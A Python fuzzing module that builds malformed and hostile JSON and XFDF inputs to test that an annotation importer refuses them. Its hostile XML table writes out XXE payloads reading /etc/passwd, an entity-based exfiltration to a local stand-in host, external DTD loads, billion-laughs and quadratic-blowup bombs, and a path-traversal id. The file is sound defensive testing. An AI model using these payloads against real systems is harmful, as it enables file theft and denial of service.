# ruff: noqa: E501  (tables of hand-written hostile inputs read best one per line)
"""Malformed and hostile review files (JSON) and XFDF, for fuzzing ``reviewer import``.

``all_cases()`` gives more than 1,000 byte strings: truncations, byte mutations, wrong types,
deep nesting, huge strings, broken encodings, and a hand-written hostile XML set (XXE, billion
laughs, quadratic blowup, external DTDs, parameter entities). Every case carries
``must_refuse``: True when no correct reader may accept it; False for random mutations that
may by chance still be a valid file (the importer may accept those, but all or nothing).

Deterministic for a given seed. Give real exports as bases when you have them (mutating a
valid file reaches deeper into the parser); built-in bases are used otherwise.
"""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
XFDF_CORPUS = next(
    (
        c
        for c in (
            ROOT.parent / "shared" / "corpus" / "xfdf",
            ROOT.parent.parent / "shared" / "corpus" / "xfdf",
        )
        if c.is_dir()
    ),
    ROOT.parent / "shared" / "corpus" / "xfdf",
)
SECRET_MARKER = "root:x:0:0"  # what /etc/passwd would leak into the database through XXE


@dataclass(frozen=True)
class FuzzCase:
    name: str
    kind: str  # "json" or "xfdf": the file extension to use
    data: bytes
    must_refuse: bool

    @property
    def filename(self) -> str:
        return f"{self.name}.{self.kind}"


SHA = "6fc1950100dff436ac6d23d3437424406ae2a9ffdd345f5387d9709094396fa0"
ANNOTATION_ID = "4e7f630f-2ed6-4b31-bb1f-3e2ffe9a2b61"


def builtin_review_json() -> dict[str, Any]:
    """A review file shaped like Reviewer's own (a W3C AnnotationCollection with rv: fields)."""
    return {
        "@context": ["http://www.w3.org/ns/anno.jsonld", {"rv": "https://reviewer.example/ns#"}],
        "type": "AnnotationCollection",
        "rv:formatVersion": 1,
        "rv:document": {
            "sha256": SHA,
            "pdfId": "50c28e31c2932c27c2aa5a3a01c3a4c2",
            "title": "Convention",
            "pageCount": 12,
        },
        "rv:tags": [{"name": "safeguard", "color": "#1B998B", "definition": "Limits a power."}],
        "first": {
            "type": "AnnotationPage",
            "items": [
                {
                    "id": f"urn:uuid:{ANNOTATION_ID}",
                    "type": "Annotation",
                    "motivation": "highlighting",
                    "created": "2026-05-01T10:15:00Z",
                    "modified": "2026-05-01T10:15:00Z",
                    "creator": {
                        "id": "urn:uuid:11111111-1111-4111-8111-111111111111",
                        "name": "Ada Tester",
                    },
                    "body": [
                        {
                            "type": "TextualBody",
                            "purpose": "commenting",
                            "value": "No judicial authorisation.",
                        },
                        {"type": "TextualBody", "purpose": "tagging", "value": "safeguard"},
                    ],
                    "target": {
                        "source": f"urn:sha256:{SHA}",
                        "selector": [
                            {
                                "type": "TextQuoteSelector",
                                "exact": "competent authorities",
                                "prefix": "the ",
                                "suffix": " of",
                            },
                            {"type": "TextPositionSelector", "start": 1200, "end": 1221},
                        ],
                    },
                    "rv:kind": "highlight",
                    "rv:status": "open",
                    "rv:revision": 1,
                    "rv:page": 2,
                    "rv:quads": [{"page": 2, "points": [72, 700, 200, 700, 72, 712, 200, 712]}],
                },
                {
                    "id": "urn:uuid:5e7f630f-2ed6-4b31-bb1f-3e2ffe9a2b62",
                    "type": "Annotation",
                    "motivation": "replying",
                    "created": "2026-05-02T09:00:00Z",
                    "creator": {
                        "id": "urn:uuid:22222222-2222-4222-8222-222222222222",
                        "name": "Bo Reader",
                    },
                    "body": {"type": "TextualBody", "value": "Agreed; see Art. 13(2)."},
                    "target": f"urn:uuid:{ANNOTATION_ID}",
                },
            ],
        },
    }


BUILTIN_XFDF = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/" xml:space="preserve"><annots>'
    b'<highlight page="0" rect="72.0,700.0,200.0,712.0" coords="72,712,200,712,72,700,200,700" '
    b'color="#FFFF00" title="Ada Tester" subject="safeguard" name="4e7f630f-2ed6-4b31-bb1f-3e2ffe9a2b61" '
    b'date="D:20260501101500Z" creationdate="D:20260501101500Z" flags="print">'
    b"<contents>No judicial authorisation.</contents></highlight></annots></xfdf>\n"
)


def xfdf_bases() -> list[bytes]:
    found = [BUILTIN_XFDF]
    if XFDF_CORPUS.is_dir():
        found += [p.read_bytes() for p in sorted(XFDF_CORPUS.iterdir()) if p.suffix in (".xfdf", ".xml")]
    return found


# --- generic byte mutations ------------------------------------------------------------------
def _mutate_bytes(data: bytes, rng: random.Random) -> bytes:
    out = bytearray(data)
    how = rng.randrange(4)
    if how == 0:
        for _ in range(rng.choice([1, 3, 20])):
            out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    elif how == 1:
        at = rng.randrange(len(out))
        out[at:at] = rng.choice([b"\x00", b"\xff\xfe", b'"', b"{", b"<", b"&", b"]]>", b"\\u0000", b"\xc3"])
    elif how == 2:
        at = rng.randrange(len(out))
        del out[at : at + rng.randrange(1, 64)]
    else:
        at = rng.randrange(len(out))
        chunk = out[at : at + rng.randrange(1, 256)]
        out[at:at] = chunk * rng.choice([2, 10])
    return bytes(out)


def _truncations(data: bytes, last_close: int, rng: random.Random, count: int) -> Iterator[bytes]:
    """Strict prefixes that end before the closing token at ``last_close``: never complete."""
    seen: set[int] = set()
    for _ in range(count * 3):
        cut = rng.randrange(0, last_close + 1)
        if cut not in seen:
            seen.add(cut)
            yield data[:cut]
        if len(seen) >= count:
            return


# --- JSON -------------------------------------------------------------------------------------
def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield prefix
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            yield from _paths(child, (*prefix, index))


def _set(doc: Any, path: tuple[Any, ...], value: Any) -> Any:
    if not path:
        return value
    target = doc
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return doc


def _get(doc: Any, path: tuple[Any, ...]) -> Any:
    for step in path:
        doc = doc[step]
    return doc


WRONG_VALUES: list[Any] = [
    None,
    0,
    -1,
    1.5,
    10**30,
    True,
    "",
    "x",
    [],
    {},
    [None],
    {"": None},
    "\x00",
    "9" * 400,
]


def _first_id(doc: Any) -> str:
    try:
        return str(doc["first"]["items"][0]["id"]).removeprefix("urn:uuid:")
    except (KeyError, IndexError, TypeError):
        return ANNOTATION_ID


def json_cases(base: bytes | None = None, seed: int = 1, per_kind: int = 200) -> list[FuzzCase]:
    rng = random.Random(seed)
    doc = json.loads(base) if base else builtin_review_json()
    text = json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8")
    cases: list[FuzzCase] = []
    close = text.rstrip().rfind(b"}")
    for n, cut in enumerate(_truncations(text, close, rng, per_kind)):
        cases.append(FuzzCase(f"json-truncated-{n:03d}-{len(cut)}", "json", cut, True))
    for n in range(per_kind):
        cases.append(FuzzCase(f"json-mutated-{n:03d}", "json", _mutate_bytes(text, rng), False))
    # Wrong types: containers replaced by scalars are never valid; leaves may be lenient.
    paths = list(_paths(doc))
    rng.shuffle(paths)
    for n, path in enumerate(paths[:per_kind]):
        original = _get(doc, path)
        wrong = rng.choice([v for v in WRONG_VALUES if type(v) is not type(original)])
        mutated = _set(copy.deepcopy(doc), path, wrong)
        container = (
            isinstance(original, (dict, list)) and len(path) <= 2 and not isinstance(wrong, type(original))
        )
        name = "-".join(str(p) for p in path)[:60].replace(":", "_").replace("@", "at")
        cases.append(
            FuzzCase(
                f"json-wrongtype-{n:03d}-{name}",
                "json",
                json.dumps(mutated).encode(),
                container or not path,
            )
        )
    for n, top in enumerate((None, 0, "review", [], [doc], True)):
        cases.append(FuzzCase(f"json-top-{n}-{type(top).__name__}", "json", json.dumps(top).encode(), True))
    # Deep nesting.
    for depth in (1_000, 100_000, 1_000_000):
        cases.append(FuzzCase(f"json-deep-array-{depth}", "json", b"[" * depth + b"]" * depth, True))
        cases.append(
            FuzzCase(f"json-deep-object-{depth}", "json", b'{"a":' * depth + b"1" + b"}" * depth, True)
        )
        inner = copy.deepcopy(doc)
        inner["first"]["items"][0]["body"][0]["value"] = "__DEEP__"
        data = json.dumps(inner).encode().replace(b'"__DEEP__"', b"[" * depth + b'"x"' + b"]" * depth)
        cases.append(FuzzCase(f"json-deep-in-body-{depth}", "json", data, True))
    cases.append(FuzzCase("json-deep-unclosed", "json", b"[" * 500_000, True))
    # Huge strings, far beyond any field's limit.
    for field, size in (
        (("first", "items", 0, "body", 0, "value"), 400_000),
        (("first", "items", 0, "creator", "name"), 300_000),
        (("first", "items", 0, "target", "selector", 0, "exact"), 1_000_000),
        (("rv:document", "title"), 300_000),
        (("rv:tags", 0, "name"), 300_000),
        (("first", "items", 0, "id"), 200_000),
        (("first", "items", 1, "body", "value"), 500_000),
    ):
        huge = _set(copy.deepcopy(doc), field, "\u00e9" * size)
        cases.append(
            FuzzCase(
                f"json-huge-{'-'.join(map(str, field))[:40]}".replace(":", "_"),
                "json",
                json.dumps(huge, ensure_ascii=False).encode(),
                True,
            )
        )
    many = copy.deepcopy(doc)
    many["rv:tags"] = [{"name": f"t{i}", "color": "#000000"} for i in range(200_000)]
    cases.append(FuzzCase("json-huge-tag-count", "json", json.dumps(many).encode(), True))
    # Encodings and numbers.
    cases += [
        FuzzCase("json-empty", "json", b"", True),
        FuzzCase("json-whitespace", "json", b"  \n\t ", True),
        FuzzCase("json-bom-only", "json", b"\xef\xbb\xbf", True),
        FuzzCase("json-utf16", "json", text.decode().encode("utf-16"), True),
        FuzzCase("json-latin1-bytes", "json", text.replace(b"Ada", b"\xe9\xe8\xff"), True),
        FuzzCase("json-nul-bytes", "json", b"\x00" * 1000, True),
        FuzzCase(
            "json-nan",
            "json",
            text.replace(b'"rv:formatVersion": 1', b'"rv:formatVersion": NaN'),
            True,
        ),
        FuzzCase(
            "json-infinity",
            "json",
            text.replace(b'"rv:formatVersion": 1', b'"rv:formatVersion": Infinity'),
            True,
        ),
        FuzzCase(
            "json-huge-int",
            "json",
            text.replace(b'"rv:formatVersion": 1', b'"rv:formatVersion": ' + b"9" * 10_000),
            True,
        ),
        FuzzCase(
            "json-huge-float",
            "json",
            text.replace(b'"rv:formatVersion": 1', b'"rv:formatVersion": 1e999999'),
            True,
        ),
        FuzzCase("json-trailing-garbage", "json", text + b"\n}{garbage", True),
        FuzzCase("json-two-documents", "json", text + text, True),
        FuzzCase("json-xml-inside", "json", BUILTIN_XFDF, True),
        FuzzCase("json-lone-surrogate", "json", text.replace(b"Ada Tester", b"\\ud800 Tester"), False),
        FuzzCase(
            "json-control-chars",
            "json",
            text.replace(b"Ada Tester", b"Ada\\u0000\\u001b[31m\\u202eTester"),
            False,
        ),
        FuzzCase(
            "json-proto-keys",
            "json",
            text.replace(
                b'"type": "AnnotationCollection"',
                b'"__proto__": {"x": 1}, "constructor": 1, "type": "AnnotationCollection"',
            ),
            False,
        ),
        FuzzCase(
            "json-duplicate-keys",
            "json",
            text.replace(b'"rv:formatVersion": 1', b'"rv:formatVersion": 1, "rv:formatVersion": 999'),
            True,
        ),
        FuzzCase(
            "json-future-format",
            "json",
            text.replace(b'"rv:formatVersion": 1', b'"rv:formatVersion": 999'),
            True,
        ),
        FuzzCase(
            "json-path-traversal-ids",
            "json",
            # The base's own first id (a real export does not hold the builtin one).
            text.replace(_first_id(doc).encode(), b"../../../../etc/passwd"),
            True,
        ),
    ]
    return cases


# --- XFDF -------------------------------------------------------------------------------------
HOSTILE_XML: dict[str, bytes] = {
    "xxe-file": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="1,1,2,2" name="a" title="x">'
    b"<contents>&xxe;</contents></text></annots></xfdf>",
    "xxe-in-attribute": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="1,1,2,2" name="a" title="&xxe;"/>'
    b"</annots></xfdf>",
    "xxe-http": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/secret">]>\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="1,1,2,2"><contents>&xxe;</contents></text></annots></xfdf>',
    "xxe-parameter-entity": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots/></xfdf>',
    "xxe-exfiltration": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf [<!ENTITY % file SYSTEM "file:///etc/passwd">'
    b"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>\"> %eval; %exfil;]>\n"
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots/></xfdf>',
    "external-dtd-system": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf SYSTEM "http://127.0.0.1:9/xfdf.dtd">\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots/></xfdf>',
    "external-dtd-file": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf SYSTEM "file:///etc/passwd">\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots/></xfdf>',
    "external-dtd-public": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf PUBLIC "-//Evil//DTD XFDF//EN" "http://127.0.0.1:9/x.dtd">\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots/></xfdf>',
    "internal-entity": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf [<!ENTITY who "Ada">]>\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="1,1,2,2" title="&who;"/></annots></xfdf>',
    "billion-laughs": b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{"&lol" + (str(i - 1) if i > 1 else "") + ";"}{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 9}">'.encode()
        for i in range(1, 10)
    )
    + b']>\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="1,1,2,2"><contents>&lol9;</contents></text></annots></xfdf>',
    "quadratic-blowup": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf [<!ENTITY a "' + b"a" * 50_000 + b'">]>\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="1,1,2,2"><contents>'
    + b"&a;" * 50_000
    + b"</contents></text></annots></xfdf>",
    "doctype-only": b'<?xml version="1.0"?>\n<!DOCTYPE xfdf>\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots/></xfdf>',
    "undeclared-entity": b'<?xml version="1.0"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="1,1,2,2">'
    b"<contents>&undeclared;</contents></text></annots></xfdf>",
    "nul-bytes": b'<?xml version="1.0"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/">\x00\x00<annots/></xfdf>',
    "bad-utf8": b'<?xml version="1.0" encoding="UTF-8"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots>'
    b'<text page="0" rect="1,1,2,2" title="\xff\xfe\xc3"/></annots></xfdf>',
    "unknown-encoding": b'<?xml version="1.0" encoding="x-evil-42"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots/></xfdf>',
    "not-xml": b"%PDF-1.7\nthis is a PDF, not XFDF\n",
    "empty": b"",
    "json-inside": json.dumps(builtin_review_json()).encode()[:200],
    "huge-attribute": b'<?xml version="1.0"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><highlight page="0" '
    b'rect="1,1,2,2" coords="1,2,2,2,1,1,2,1" title="' + b"A" * 5_000_000 + b'"/></annots></xfdf>',
    "huge-contents": b'<?xml version="1.0"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><highlight page="0" '
    b'rect="1,1,2,2" coords="1,2,2,2,1,1,2,1"><contents>'
    + b"B" * 5_000_000
    + b"</contents></highlight></annots></xfdf>",
    "many-annotations": b'<?xml version="1.0"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots>'
    + b'<square page="-5" rect="x"/>' * 200_000
    + b"</annots></xfdf>",
}
# May parse by chance (unknown elements ignored): the import may accept them, all or nothing.
LENIENT_XML: dict[str, bytes] = {
    "xinclude": b'<?xml version="1.0"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/" xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<annots><text page="0" rect="1,1,2,2" name="a"><contents><xi:include href="file:///etc/passwd" parse="text"/>'
    b"</contents></text></annots></xfdf>",
    "stylesheet-pi": b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>\n'
    b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots/></xfdf>',
    "deep-elements": b'<?xml version="1.0"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots>'
    + b"<x>" * 100_000
    + b"</x>" * 100_000
    + b"</annots></xfdf>",
    "namespace-flood": b'<?xml version="1.0"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/" '
    + b" ".join(f'xmlns:n{i}="urn:n{i}"'.encode() for i in range(20_000))
    + b"><annots/></xfdf>",
    "utf7": b'<?xml version="1.0" encoding="UTF-7"?>\n+ADw-xfdf xmlns+AD0AIg-http://ns.adobe.com/xfdf/+ACIAPgA8-annots/+AD4APA-/xfdf+AD4-',
}

BAD_ATTRIBUTE_VALUES = {
    "page": [b"-1", b"abc", b"99999999999999999999", b"1e9", b"", b"0x10", b"NaN"],
    "rect": [b"a,b,c,d", b"1,2,3", b"nan,nan,nan,nan", b"1e999,1,2,3", b"", b"1;2;3;4"],
    "coords": [b"1,2,3", b"x,y,z,w,1,2,3,4", b"inf,0,0,0,0,0,0,0", b"", b"1," * 100_000 + b"1"],
}


def _replace_attribute(data: bytes, name: bytes, value: bytes) -> bytes | None:
    marker = b" " + name + b'="'
    at = data.find(marker)
    if at < 0:
        return None
    start = at + len(marker)
    end = data.find(b'"', start)
    return data[:start] + value + data[end:]


def xfdf_cases(bases: list[bytes] | None = None, seed: int = 2, per_kind: int = 160) -> list[FuzzCase]:
    rng = random.Random(seed)
    sources = bases or xfdf_bases()
    cases: list[FuzzCase] = []
    per_base = max(1, per_kind // len(sources))
    for b, base in enumerate(sources):
        close = base.rfind(b"</xfdf>") + len(b"</xfdf")
        for n, cut in enumerate(_truncations(base, close, rng, per_base)):
            cases.append(FuzzCase(f"xfdf-{b}-truncated-{n:03d}-{len(cut)}", "xfdf", cut, True))
        for n in range(per_base):
            cases.append(FuzzCase(f"xfdf-{b}-mutated-{n:03d}", "xfdf", _mutate_bytes(base, rng), False))
        for attribute, values in BAD_ATTRIBUTE_VALUES.items():
            for v, value in enumerate(values):
                changed = _replace_attribute(base, attribute.encode(), value)
                if changed is not None:
                    cases.append(FuzzCase(f"xfdf-{b}-bad-{attribute}-{v}", "xfdf", changed, True))
    for name, data in HOSTILE_XML.items():
        cases.append(FuzzCase(f"xfdf-hostile-{name}", "xfdf", data, True))
    for name, data in LENIENT_XML.items():
        cases.append(FuzzCase(f"xfdf-lenient-{name}", "xfdf", data, False))
    return cases


def all_cases(json_base: bytes | None = None, xfdf_base_list: list[bytes] | None = None) -> list[FuzzCase]:
    """More than 1,000 cases: about 620 review files and 500 XFDF files."""
    return json_cases(json_base) + xfdf_cases(xfdf_base_list, per_kind=240)


def write_cases(folder: Path, cases: list[FuzzCase]) -> list[tuple[Path, FuzzCase]]:
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for case in cases:
        path = folder / case.filename
        path.write_bytes(case.data)
        written.append((path, case))
    return written
